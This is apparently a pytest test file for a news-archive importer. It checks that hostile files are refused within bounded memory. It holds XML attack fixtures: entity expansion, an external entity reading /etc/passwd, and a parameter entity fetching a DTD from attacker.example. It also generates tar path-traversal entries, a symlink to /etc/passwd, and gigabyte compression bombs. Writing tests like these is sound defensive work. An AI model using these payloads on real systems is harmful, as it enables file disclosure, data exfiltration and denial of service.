"""Input that attacks: each file ends in a named refusal, within bounded time and memory, and the story beside it is taken."""

import bz2
import gzip
import json
import lzma
import os
import subprocess
import sys
import tarfile
import time
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
import zstandard

from archive.models import Article, FactCheck, Record
from archive.pipeline import import_paths
from tests.factories import AT, TEXT
from tests.shared_data import shared_data

pytestmark = pytest.mark.django_db
STORY = TEXT.encode()
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
ATTACKS = {
    "entities": f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>',
    "quadratic": f'<!DOCTYPE x [<!ENTITY l11 "{"a" * 60_000}">]>',
    "external": '<!DOCTYPE x [<!ENTITY l11 SYSTEM "file:///etc/passwd">]>',
    "parameter": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>',
}
DOCUMENTS = {
    "nitf": "<nitf><body><body.head><hedline><hl1>Ferry &l11;</hl1></hedline></body.head></body></nitf>",
    "rss": "<rss version='2.0'><channel><item><title>Ferry &l11;</title><description>&l11;</description></item></channel></rss>",
    "wxr": "<rss xmlns:wp='http://wordpress.org/export/1.2/'><channel><item><title>Ferry &l11;</title></item></channel></rss>",
    "g2": "<newsItem xmlns='http://iptc.org/std/nar/2006-10-01/' guid='a'><headline>&l11;</headline></newsItem>",
    "n1": "<NewsML><NewsItem><NewsLines><HeadLine>&l11;</HeadLine></NewsLines></NewsItem></NewsML>",
}  # fmt: skip
RUN = """
import os, resource, sys
import django
django.setup()
from django.core.management import call_command
call_command("migrate", verbosity=0)
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
code = 0
try:
    call_command("import_articles", *sys.argv[1:], "--json", "--workers", "1")
except SystemExit as error:
    code = error.code
print(file=sys.stderr)
print(code, (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024, file=sys.stderr)
"""
MOST_MEGABYTES = 400
MOST_SECONDS = 300


def codes(*paths, **options):
    report = import_paths([str(path) for path in paths], at=AT, **options)
    return [refusal.code for refusal in report.refusals]


def imported(tmp_path: Path, *arguments: str) -> tuple[list[str], int]:
    """The codes of what the command refuses, in a process of its own, and the megabytes that it grew by."""
    environment = os.environ | {"DATABASE_URL": f"sqlite:///{tmp_path / 'own.sqlite3'}", "DEBUG": "on"}
    environment |= {"DJANGO_SETTINGS_MODULE": "newsroom.settings"}
    began = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-c", RUN, *arguments], env=environment, capture_output=True, text=True, timeout=MOST_SECONDS, check=True
    )
    assert time.monotonic() - began < MOST_SECONDS
    code, grown = map(int, done.stderr.splitlines()[-1].split())
    report = json.loads(done.stdout)
    assert (code, report["refused"]) == (1, len(report["refusals"]))
    return [refusal["code"] for refusal in report["refusals"]], grown


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("document", DOCUMENTS)
def test_xml_attack_is_refused_in_every_format_and_the_story_beside_it_taken(tmp_path, attack, document):
    (tmp_path / "a.xml").write_text(f'<?xml version="1.0"?>{ATTACKS[attack]}{DOCUMENTS[document]}')
    (tmp_path / "b.txt").write_bytes(STORY)
    assert codes(tmp_path) == ["unsafe_xml"]
    assert (Article.objects.count(), Record.objects.get(outcome="refused").locator) == (1, f"{tmp_path}/a.xml")


def test_attacks_that_were_collected_are_refused_by_name():
    paths = sorted(shared_data("hostile", "xml").glob("*.xml"))
    report = import_paths(list(map(str, paths)), at=AT)
    assert report.new == 0
    assert {refusal.code for refusal in report.refusals} <= {"unsafe_xml", "unknown_format", "not_an_article"}
    assert "unsafe_xml" in {refusal.code for refusal in report.refusals}
    assert not any("root:" in refusal.reason for refusal in report.refusals)


def nested(data: bytes, depth: int) -> bytes:
    for number in range(depth):
        out = BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr(f"{number}.zip" if number else "story.txt", data)
        data = out.getvalue()
    return data


@pytest.mark.parametrize(("depth", "expected"), [(3, []), (4, ["unknown_format"]), (30, ["unknown_format"])])
def test_archives_within_one_another_are_opened_so_deep_and_no_deeper(tmp_path, depth, expected):
    path = tmp_path / "nested.zip"
    path.write_bytes(nested(STORY, depth))
    assert codes(path) == expected
    assert Article.objects.count() == (not expected)


def test_names_in_archives_are_never_paths(tmp_path):
    path = tmp_path / "odd.tar"
    with tarfile.open(path, "w") as archive:
        for name in ("../../escaped.txt", "/etc/passwd.txt"):
            info = tarfile.TarInfo(name)
            info.size = len(STORY)
            archive.addfile(info, BytesIO(STORY))
        link = tarfile.TarInfo("link.txt")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    report = import_paths([str(path)], at=AT)
    assert (report.new, report.unchanged, report.refused) == (1, 1, 0)
    assert sorted(one.name for one in tmp_path.iterdir()) == ["odd.tar"]
    assert not (tmp_path.parent.parent / "escaped.txt").exists()


def zeros(size: int, compressor) -> bytes:
    piece, out = b"\0" * 10_000_000, []
    for _ in range(size // len(piece)):
        out.append(compressor.compress(piece))
    return b"".join([*out, compressor.flush()])


class Gzip:
    def __init__(self):
        self.out = BytesIO()
        self.stream = gzip.GzipFile(fileobj=self.out, mode="wb", compresslevel=6)

    def compress(self, data):
        self.stream.write(data)
        return b""

    def flush(self):
        self.stream.close()
        return self.out.getvalue()


BOMBS = {
    "gz": Gzip,
    "bz2": bz2.BZ2Compressor,
    "xz": lambda: lzma.LZMACompressor(preset=0),
    "zst": lambda: zstandard.ZstdCompressor(level=1).compressobj(),
}


@pytest.mark.huge
@pytest.mark.parametrize("kind", BOMBS)
def test_bomb_of_a_gigabyte_is_refused_in_bounded_memory(tmp_path, kind):
    (tmp_path / f"bomb.txt.{kind}").write_bytes(zeros(1_000_000_000, BOMBS[kind]()))
    found, grown = imported(tmp_path, str(tmp_path / f"bomb.txt.{kind}"))
    assert set(found) <= {"too_large", "binary"} and grown < MOST_MEGABYTES


@pytest.mark.huge
def test_zip_bomb_is_refused_in_bounded_memory_and_its_other_files_taken(tmp_path):
    with zipfile.ZipFile(tmp_path / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(3):
            with archive.open(f"{number}.txt", "w") as entry:
                for _ in range(100):
                    entry.write(b"\0" * 10_000_000)
        archive.writestr("story.txt", STORY)
    found, grown = imported(tmp_path, str(tmp_path / "bomb.zip"))
    assert len(found) == 3 and set(found) <= {"too_large", "binary"} and grown < MOST_MEGABYTES


def long_line(path: Path, before: bytes, after: bytes) -> None:
    """A line of a gigabyte, most of it a hole in the file."""
    with path.open("wb") as stream:
        stream.write(before + b"words " * 2_000_000)
        stream.seek(1_000_000_000)
        stream.write(after)


LINES = {
    "jsonl": (
        b'{"headline": "Ferry", "text": "',
        b'"}\n{"headline": "Ferry hits quay", "text": "Nobody was hurt."}\n',
        "too_large",
    ),
    "json": (
        b'[{"headline": "Ferry", "text": "',
        b'"}, {"headline": "Ferry hits quay", "text": "Nobody was hurt."}]',
        "too_large",
    ),
    "csv": (b'headline,text\nFerry,"', b'"\nFerry hits quay,Nobody was hurt.\n', "too_large"),
    "txt": (b"Ferry\n", b"\n", "too_large"),
    "html": (b"<html><body><p>", b"</p></body></html>", "too_large"),
    "xml": (b"<rss><channel><item><title>", b"</title></item></channel></rss>", "too_large"),
}


@pytest.mark.huge
@pytest.mark.parametrize("kind", LINES)
def test_line_of_a_gigabyte_is_refused_in_bounded_memory(tmp_path, kind):
    before, after, code = LINES[kind]
    long_line(tmp_path / f"line.{kind}", before, after)
    found, grown = imported(tmp_path, str(tmp_path / f"line.{kind}"))
    assert (found, grown < MOST_MEGABYTES) == ([code], True)


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("nul.txt", b"Ferry hits quay\n\nNobody\0was hurt.\n", "binary"),
        ("surrogate.txt", b"Ferry hits quay\n\nNobody \xed\xa0\x80 was hurt.\n", "encoding"),
        ("broken.json", b'{"headline": "Ferry "hits" quay", "text": "Nobody was hurt."}', "malformed"),
        ("cut.json", b'{"headline": "Ferry hits quay", "text": "Nobody', "truncated"),
        ("deep.json", b'{"headline": ' + b"[" * 100_000, "malformed"),
        ("deep.xml", b"<nitf>" + b"<block>" * 100_000, "malformed"),
        ("twice.json", b'{"headline": "Ferry", "headline": "Quay", "text": "Nobody was hurt."}', "malformed"),
    ],
)
def test_broken_input_is_refused_by_name_and_kept(tmp_path, name, data, code):
    (tmp_path / name).write_bytes(data)
    assert codes(tmp_path / name) == [code]
    assert Record.objects.get().raw_bytes() == data


def test_surrogate_and_nul_written_in_json_are_taken_with_a_note(tmp_path):
    (tmp_path / "odd.json").write_text(json.dumps({"headline": "Ferry \ud800 hits", "text": "Nobody \0 was hurt."}))
    assert codes(tmp_path / "odd.json") == []
    assert (Article.objects.get().headline, Record.objects.get().notes != "") == ("Ferry \ufffd hits", True)


def test_key_that_no_database_holds_is_shown_in_the_reason_with_a_mark(tmp_path):
    path = tmp_path / "keys.jsonl"
    path.write_text('{"he\\ud800ad\\u0000": "x"}\n')

    (refusal,) = import_paths([str(path)], at=AT).refusals

    assert refusal.code == "unknown_format" and "he\ufffdad\ufffd" in refusal.reason
    assert Record.objects.get().reason == refusal.reason


def test_fact_check_with_half_characters_is_taken_and_its_bytes_stay(tmp_path):
    path = tmp_path / "check.json"
    rating = {"@type": "Rating", "alternateName": "Fal\ud800se"}
    check = {"@type": "ClaimReview", "@context": "https://schema.org", "claimReviewed": "The pier\x00 is \udfff blue"}
    path.write_text(json.dumps({**check, "author": {"name": "Gull\ud800"}, "reviewRating": rating}))

    assert import_paths([str(path)], at=AT).fact_checks == 1

    stored = FactCheck.objects.get()
    assert stored.claim.endswith("\ufffd blue") and (stored.rating, stored.publisher) == ("Fal\ufffdse", "Gull\ufffd")
    assert Record.objects.get().raw_bytes() == path.read_bytes()


def test_archive_of_hidden_files_alone_is_refused_and_kept(tmp_path):
    path = tmp_path / "hidden.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(".hidden/a.txt", STORY)
        archive.writestr("__MACOSX/b.txt", STORY)
    assert codes(path) == ["empty"]
    assert Record.objects.get().raw_bytes() == path.read_bytes()
